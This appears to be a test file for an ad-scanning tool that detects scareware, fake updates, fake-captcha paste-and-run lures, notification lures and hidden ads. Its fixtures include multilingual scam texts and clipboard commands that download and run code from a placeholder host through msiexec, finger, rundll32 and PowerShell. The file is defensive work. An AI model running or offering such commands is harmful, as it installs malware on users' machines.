import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Observation, ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
import { observed, PAGE, slugsOf } from '../../support/detected.ts';

describe('§2.5.13 techniques of malicious ads', () => {
  const scriptFile = (text: string) => {
    return { url: PAGE, resource_type: 'script', content_type: '', bytes: text.length, text };
  };

  it('scareware is found on telephones, in each language, by what was found on them', () => {
    for (const threat of [
      'Virus detected on your iPhone!',
      '13 viruses were found on your phone',
      'Auf Ihrem Gerät wurden 4 Viren gefunden',
      '4 virus ont été détectés sur votre iPhone',
      'Se han encontrado 4 virus en su iPhone',
      'Votre iPhone est infecté',
      'Ihr Smartphone ist infiziert',
      'Tu celular está infectado',
      'Il tuo iPhone è infetto',
      'Ваш iPhone заражён',
      'Der Zugriff auf diesen PC wurde aus Sicherheitsgründen gesperrt',
      'El acceso a este equipo ha sido bloqueado por razones de seguridad',
      "L'accesso a questo PC è stato bloccato per motivi di sicurezza",
    ])
      assert.deepEqual(slugsOf({ text: `${threat}\nDo not close this window.` }), ['scareware'], threat);
  });

  it('scareware is found for a number of viruses or an antivirus that has expired, with a renewal', () => {
    const renew = '\nRenew now';
    assert.deepEqual(slugsOf({ text: `Your PC is infected with 5 viruses!${renew}` }), ['scareware']);
    assert.deepEqual(slugsOf({ text: `Your iPhone is badly damaged by (4) viruses${renew}` }), ['scareware']);
    const expired = 'Your McAfee subscription has expired!';
    assert.deepEqual(slugsOf({ text: `${expired}\nYour PC is at risk.${renew}` }), ['scareware']);
    assert.deepEqual(slugsOf({ text: `${expired}${renew}` }), []);
    assert.deepEqual(slugsOf({ text: `Your PC is at risk.${renew}` }), []);
  });

  it('scareware is found for a device that is hacked, locked for a fine, or unprotected, and for neither alone', () => {
    const threats = [
      [
        'Your iPhone has been hacked!\nAll actions on the device are tracked by a hacker.',
        'Immediate action is required!',
      ],
      ['Your PC is unprotected against viruses.\nYour Norton subscription has expired!', 'Renew now'],
      ['Your browser has been locked.', 'Pay a fine of $300 within 24 hours.'],
      ['Ihr Computer wurde gesperrt.', 'Zahlen Sie eine Strafe von 100 Euro per Paysafecard.'],
      ['Votre ordinateur est bloqué.', 'Payez une amende de 200 euros.'],
      ['このPCへのアクセスはブロックされています', 'Microsoft サポートに連絡してください: (050) 5555-0142'],
    ];
    for (const [threat = '', pressure = ''] of threats) {
      assert.deepEqual(slugsOf({ text: `${threat}\n${pressure}` }), ['scareware'], threat);
      assert.deepEqual([slugsOf({ text: threat }), slugsOf({ text: pressure })], [[], []], threat);
    }
  });

  it('fake_update is found for the number of an old version, and for a button of any element', () => {
    const text = 'Google Chrome 117.0.5938.92 is out of date.';
    assert.deepEqual(slugsOf({ text, html: '<a href="/get/Setup.exe">Update</a>' }), ['fake_update']);
    assert.deepEqual(slugsOf({ text, html: '<div class="b" onclick="get()"><b>Update</b> Chrome</div>' }), [
      'fake_update',
    ]);
    assert.deepEqual(slugsOf({ text, html: '<span role="button">Update Chrome</span>' }), ['fake_update']);
    assert.deepEqual(slugsOf({ text, html: '<div>Update Chrome</div>' }), []);
    assert.deepEqual(slugsOf({ text, html: '<button>Download</button>' }), ['fake_update']);
    for (const file of ['Update.msixbundle', 'Chrome.7z', 'update.mobileconfig', 'chrome.vhd'])
      assert.deepEqual(slugsOf({ text, html: `<a href="/get/${file}">Update</a>` }), ['fake_update'], file);
    assert.deepEqual(slugsOf({ text, html: '<button>Download the invoice</button>' }), []);
  });

  it('paste_to_run is found in the wordings of keys and of proofs that pages use', () => {
    const proof = 'Verify you are a human.\n';
    for (const steps of [
      'Hold the Windows key, then press R.\nPress Control + V.',
      'Press the Windows key and press R.\nPress "CTRL" + "V".',
      'Windowsキー + Rキーを押します\nCtrl+Vを押します',
      'Druk op de Windows-toets + R.\nPlak de code.',
      'Pulse las teclas Windows y R.\nPulse Ctrl y pegue el texto.',
      'Open the Run window, paste the code.',
      'Press Win-R, then Ctrl-V.',
      'Open File Explorer, press Ctrl + L, then Ctrl + V.',
      'Open File Explorer and hit Alt+D, then paste the path.',
      'Press 🪟 + R, then Ctrl-V',
      'Press F12, open the console and paste the code.',
    ])
      assert.deepEqual(slugsOf({ text: proof + steps }), ['paste_to_run'], steps);
    for (const said of [
      'I am not a bot',
      'Sie sind ein Mensch? Bestätigen Sie, dass Sie ein Mensch sind.',
      'insan olduğunuzu doğrulayın',
    ])
      assert.deepEqual(slugsOf({ text: `${said}\nWin + R\nCtrl + V` }), ['paste_to_run'], said);
  });

  it('paste_to_run is found in an instruction that is shown later, if a file copies something', () => {
    const html =
      '<ol hidden=""><li>Verify that you are human</li><li>Press Windows + R</li><li>Press Ctrl + V</li></ol>';
    const text = 'Verify that you are human';
    const copies = (code: string) => slugsOf({ text, html }, [], { bodies: [scriptFile(code)] });
    assert.deepEqual(copies('navigator.clipboard.writeText(code)'), ['paste_to_run']);
    assert.deepEqual(copies('run(code)'), []);
  });

  it('paste_to_run is found for programs that load others', () => {
    const text = 'Something went wrong. How to fix it:\n1. Press Win + R\n2. Press Ctrl + V';
    for (const command of [
      'msiexec /qn /i https://x.example/a.msi',
      'cmd /c finger a@x.example | cmd',
      'rundll32 \\\\\\\\x.example\\\\a\\\\b.dll,#1',
    ]) {
      const html = `<script>navigator.clipboard.writeText("${command}")</script>`;
      assert.deepEqual(slugsOf({ text, html }), ['paste_to_run'], command);
    }
  });

  it('scareware is found for what is in a device, and for a device that is called mobile', () => {
    for (const text of [
      'ZEUS VIRUS DETECTED IN YOUR COMPUTER !!\nPlease do not shut down or reset it.',
      'Your mobile phone is infected with (3) viruses!\nRemove the viruses now.',
      'Your mobile device has been hacked.\nDo not close this window.',
    ])
      assert.deepEqual(slugsOf({ text }), ['scareware'], text);
    for (const text of [
      'Any virus detected in your computer is removed.\nDo not close this window.',
      'Your mobile number has been blocked.\nContact support: +44 20 5550 1234',
    ])
      assert.deepEqual(slugsOf({ text }), [], text);
  });

  it('paste_to_run is found in whatever words the keys are named', () => {
    for (const text of [
      'Confirm that you are a real person\nPress Win + R\nPress Ctrl + V',
      'Verify you are human\nHold down Win and tap R\nHold Ctrl and press V',
      "I'm not a robot\nPress the Windows key (⊞), then R\nPress Ctrl and V together",
      "I'm not a robot\nPress Win + R\nPress Shift + Insert",
    ])
      assert.deepEqual(slugsOf({ text }), ['paste_to_run'], text);
    for (const text of [
      'I am human\nShortcuts: win and tap R to restart, Ctrl and Z to undo.',
      'I am human\nShortcuts: Ctrl + L for the list, Ctrl + V to paste.',
      'Open the terminal and paste the command.\nDo you need help from a real person?',
    ])
      assert.deepEqual(slugsOf({ text }), [], text);
  });

  it('push_lure is found for a pretext to allow notifications, if these are requested', () => {
    const asks = [observed('unprompted_call', { demand: 'notifications', trigger: 'none' })];
    const byScript = '<script>Notification.requestPermission()</script>';
    for (const lure of [
      'Click "Allow" to confirm that you are not a robot',
      'Press Allow to verify you are human',
      'Click Allow to watch the video',
      'Click Allow\nto confirm that you are not a robot',
      'Type Allow to verify that you are not a robot',
      'If you are 18+, tap Allow',
      'Click «Allow» to access the site',
      'Press Allow to proceed',
      'Tap ALLOW to play',
      'Cliquez sur Autoriser pour accéder au site',
      'Premi Consenti per continuare',
      'Klicken Sie auf "Zulassen", um zu bestätigen, dass Sie kein Roboter sind',
      'Cliquez sur Autoriser pour continuer',
      'Haz clic en Permitir para descargar el archivo',
      'Нажмите «Разрешить», чтобы подтвердить, что вы не робот',
      'Press Allow to verify, that you are not robot',
      'Robot olmadığınızı doğrulamak için İzin Ver düğmesine tıklayın',
      'Klik Izinkan untuk mengonfirmasi bahwa Anda bukan robot',
      '请点击“允许”以验证您是真人',
    ]) {
      assert.deepEqual(slugsOf({ text: lure }, asks), ['push_prompt', 'push_lure'], lure);
      assert.deepEqual(slugsOf({ text: lure, html: byScript }), ['push_lure'], lure);
      assert.deepEqual(slugsOf({ text: lure }), [], lure);
    }
    for (const honest of [
      'Click Allow to get notifications of new videos',
      'Press Allow to continue to receive our alerts',
      'Click Allow, so that we can see your camera: the video call continues',
      'Click the lock and allow sound to watch the video',
      'Tap Allow to start with the motion sensors',
      'Select Allow to proceed with personalised content',
      'Klicken Sie auf „Zulassen“, um weiterhin informiert zu bleiben',
      'Нажмите «Разрешить», чтобы продолжить читать новости',
      'Click Allow to access the photos of your contacts',
      'Allow all cookies\nI am not a robot',
      'Click to go on. Allow all cookies\nI am not a robot',
    ])
      assert.deepEqual(slugsOf({ text: honest }, asks), ['push_prompt'], honest);
  });

  it('scareware is found for the make that a kit inserts, and an account of that make is no device', () => {
    const stay = '\nDo not close this window.';
    for (const text of [
      'Your Apple iPhone is severely damaged by 16 viruses!',
      'Your Google Pixel has been hacked.',
      'Ihr Samsung ist infiziert.',
      'Votre Xiaomi est infecté.',
      'Tu Samsung está infectado.',
    ])
      assert.deepEqual(slugsOf({ text: text + stay }), ['scareware'], text);
    const account = 'Your Samsung account has been locked.\nContact support: +44 20 5550 1234';
    assert.deepEqual(slugsOf({ text: account }), []);
  });

  it('a report on what victims saw is no scareware', () => {
    const text =
      '"Your computer has been locked", the victims read. "Pay a ransom of $300 within three days": police count 200 victims.';
    assert.deepEqual(slugsOf({ text }), []);
  });

  it('a tutorial that names what is to be typed is no paste_to_run beside the captcha of its comments', () => {
    const captcha = '\nComments\nI am not a robot';
    const tutorials = [
      'Press Windows + R, type regedit or paste it with Ctrl + V, and press Enter.',
      'Press Win + R and paste %appdata%\\Acme\\Saves',
      'Press Win + R, paste services.msc and press Enter.',
      'Open a terminal and paste: sudo apt install acme',
    ];
    for (const text of tutorials) {
      assert.deepEqual(slugsOf({ text: text + captcha }), [], text);
      const html = '<script>navigator.clipboard.writeText("powershell -c iwr https://x.example/a")</script>';
      assert.deepEqual(slugsOf({ text: text + captcha, html }), ['paste_to_run'], text);
    }
    assert.deepEqual(slugsOf({ text: `Press Windows + R.\nPress Ctrl + V.${captcha}` }), ['paste_to_run']);
    const decoy = `${tutorials[0]} ${'More about it. '.repeat(100)}I am not a robot: press Windows + R, then Ctrl + V.`;
    assert.deepEqual(slugsOf({ text: decoy }), ['paste_to_run']);
  });

  it('paste_to_run is found in an instruction in look-alike letters that is shown later', () => {
    const html =
      '<p hidden="">І аm nоt а rоbоt: рrеss Wіndоws + R, Сtrl + V</p><script>navigator.clipboard.writeText(a)</script>';
    assert.deepEqual(slugsOf({ text: 'Check', html }), ['paste_to_run']);
  });

  it('push_lure is found if a script in a file requests the permission, such as after a click', () => {
    const page = { text: 'Click Allow to confirm that you are not a robot' };
    const slugs = (code: string) => slugsOf(page, [], { bodies: [scriptFile(code)] });
    assert.deepEqual(slugs('go.onclick=()=>Notification.requestPermission()'), ['push_lure']);
    assert.deepEqual(slugs('DeviceMotionEvent.requestPermission()'), []);
  });

  it('forced_subscription is found where operators bill subscriptions with the telephone', () => {
    for (const text of [
      'Rp 2.200/hari',
      '5.000đ/ngày',
      '9 บาท/วัน',
      '٣ د.ك في اليوم'.replace('٣', '3'),
      '₹10 प्रति दिन',
      'R7.00 per day',
      '매월 9,900원',
      '每天2元',
    ]) {
      const small = observed('price', { text, font_px: 7, contrast: 12, in_page: true });
      assert.deepEqual(slugsOf({}, [small]), ['forced_subscription'], text);
      assert.deepEqual(
        slugsOf({}, [observed('preselected', { label: `Club: ${text}` })]),
        ['forced_subscription'],
        text,
      );
    }
    for (const label of ['Kirim 2 email per hari', '每天收到新闻', 'Mỗi ngày một tin'])
      assert.deepEqual(slugsOf({}, [observed('preselected', { label })]), [], label);
  });
});

describe('§2.5.14 invisible ads', () => {
  const ad = (facts: Partial<ObservationOf<'placement'>['facts']> = {}) =>
    observed('placement', {
      element: 'frame',
      parent: 0,
      ...{ x: 10, y: 10, width: 300, height: 250, opacity: 1 },
      ...{ content_width: 300, content_height: 250, content_url: '' },
      ...facts,
    });
  const slugs = (...placements: Observation[]) => slugsOf({}, placements);

  it('hidden_ad is transparent or out of reach', () => {
    assert.deepEqual(slugs(ad({ opacity: 0.049 })), ['hidden_ad']);
    assert.deepEqual(slugs(ad({ x: -800 })), ['hidden_ad']);
    assert.deepEqual(slugs(ad({ opacity: 0.05 }), ad({ x: 400 })), []);
    assert.deepEqual(slugs(ad({ y: -700 })), []);
    assert.deepEqual(slugs(ad({ opacity: 0, width: 400, height: 580 })), []);
    assert.deepEqual(slugs(ad({ opacity: 0, content_width: 30, content_height: 30 })), []);
  });

  it('stacked_ads cover each other in one document', () => {
    assert.deepEqual(slugs(ad(), ad({ x: 60 })), ['stacked_ads']);
    assert.deepEqual(slugs(ad(), ad({ x: 80 })), []);
    assert.deepEqual(slugs(ad(), ad({ parent: 1 })), []);
    assert.deepEqual(slugs(ad(), ad({ opacity: 0 })), ['hidden_ad']);
  });

  it('pixel_stuffing is an ad in a frame of a pixel', () => {
    assert.deepEqual(slugs(ad({ width: 1, height: 1 })), ['pixel_stuffing']);
    assert.deepEqual(slugs(ad({ element: 'image', width: 2, height: 2 })), ['pixel_stuffing']);
    assert.deepEqual(slugs(ad({ width: 3, height: 1 })), []);
    assert.deepEqual(slugs(ad({ width: 1, height: 1, content_width: 40, content_height: 40 })), []);
    assert.deepEqual(slugs(ad({ element: 'image', width: 1, height: 1, content_width: 64, content_height: 64 })), []);
  });
});
